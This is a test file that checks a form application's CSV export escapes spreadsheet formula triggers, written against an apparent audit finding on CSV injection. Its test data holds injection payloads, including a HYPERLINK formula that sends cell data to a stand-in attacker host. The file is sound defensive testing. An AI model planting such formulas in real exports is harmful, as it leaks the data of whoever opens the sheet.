import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { createProject } from '../helpers/factories.js';
import { publishedForm, submitUrl } from '../helpers/forms.js';
import { call } from '../helpers/http.js';
import { useSuite } from '../helpers/suite.js';

const { t, team } = useSuite();

const FIELDS = [
  { type: 'text', label: 'Name', key: 'name' },
  { type: 'textarea', label: 'Notes', key: 'notes' },
  { type: 'number', label: 'Change', key: 'change' },
  { type: 'multi_select', label: 'Items', key: 'items', options: ['-soap', '=bucket', 'filter'] },
];
const NAME = 4;
const NOTES = 5;
const CHANGE = 6;
const ITEMS = 7;

/** Each answer, and how it must read in the sheet: an apostrophe before every formula trigger, nothing else. */
const ANSWERS: [string, string][] = [
  ['x;=1+1', "x;'=1+1"],
  ['=HYPERLINK("http://evil.example/?"&A1,"open")', `'=HYPERLINK("http://evil.example/?"&A1,"open")`],
  ['a\n=1', "a\n'=1"],
  ['a\r\n-1', "a\r\n'-1"],
  ['a\t+1', "a\t'+1"],
  ['\t=1', "'\t'=1"],
  ['@SUM(1)', "'@SUM(1)"],
  ['a,-1', "a,'-1"],
  ['x; =1', "x; '=1"],
  ['\uFF1D1+1', "'\uFF1D1+1"],
  ['x;"=1+1', `x;"'=1+1`],
  ['x;\u00A0=1', "x;\u00A0'=1"],
  ['plain, text; fine = yes', 'plain, text; fine = yes'],
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

interface Cell {
  value: string;
  quoted: boolean;
}

describe('finding 6: CSV cells never open as formulas', () => {
  it('quotes every text cell and neutralises triggers after ; , tab and line breaks; numbers stay numbers', async () => {
    const project = await createProject(t.database.db, team.org.id);
    const form = await publishedForm(t.app, team.officer, team.org.id, {
      title: 'Formula probe',
      projectId: project.id,
      fields: FIELDS,
    });
    for (const [answer] of ANSWERS) {
      const answers = {
        name: answer,
        notes: `${answer}\n${answer}`,
        change: -5,
        items: ['-soap', '=bucket'],
      };
      const res = await call(t.app, 'POST', submitUrl(form.publicToken), { body: { answers } });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }

    const res = await call(t.app, 'GET', `/orgs/${team.org.id}/forms/${form.id}/submissions.csv`, {
      as: team.admin,
    });
    expect(res.status).toBe(200);
    // csv-parse tells whether each field was quoted; its typings only know string cells.
    const rows = parse(res.response.body, {
      cast: (value, context) => ({ value, quoted: context.quoting }),
    }) as unknown as Cell[][];
    const data = rows.slice(1);
    expect(data).toHaveLength(ANSWERS.length);

    // Oldest first, as submitted.
    expect(data.map((row) => row[NAME]!.value)).toEqual(ANSWERS.map(([, inert]) => inert));
    // A line break starts a new part: the second copy is guarded like the first.
    expect(data.map((row) => row[NOTES]!.value)).toEqual(ANSWERS.map(([, inert]) => `${inert}\n${inert}`));
    for (const row of data) {
      expect(row[ITEMS]).toEqual({ value: "'-soap; '=bucket", quoted: true });
      // A number answer is a number, unquoted and signed: the guard is for text only.
      expect(row[CHANGE]).toEqual({ value: '-5', quoted: false });
      for (const cell of [row[NAME]!, row[NOTES]!, row[ITEMS]!]) {
        expect(cell.quoted, JSON.stringify(cell.value)).toBe(true);
        // A spreadsheet that splits on ; , tab or line breaks (and trims spaces) still sees text.
        for (const part of cell.value.split(/[;,\t\r\n]/)) {
          const start = part.replace(/^[\p{Zs}"]+/u, '');
          expect(TRIGGERS.includes(start.charAt(0)), JSON.stringify(cell.value)).toBe(false);
        }
      }
    }
    const raw = res.response.body;
    expect(raw).toContain('"x;\'=1+1"');
    expect(raw).toMatch(/,-5,/);
  });
});
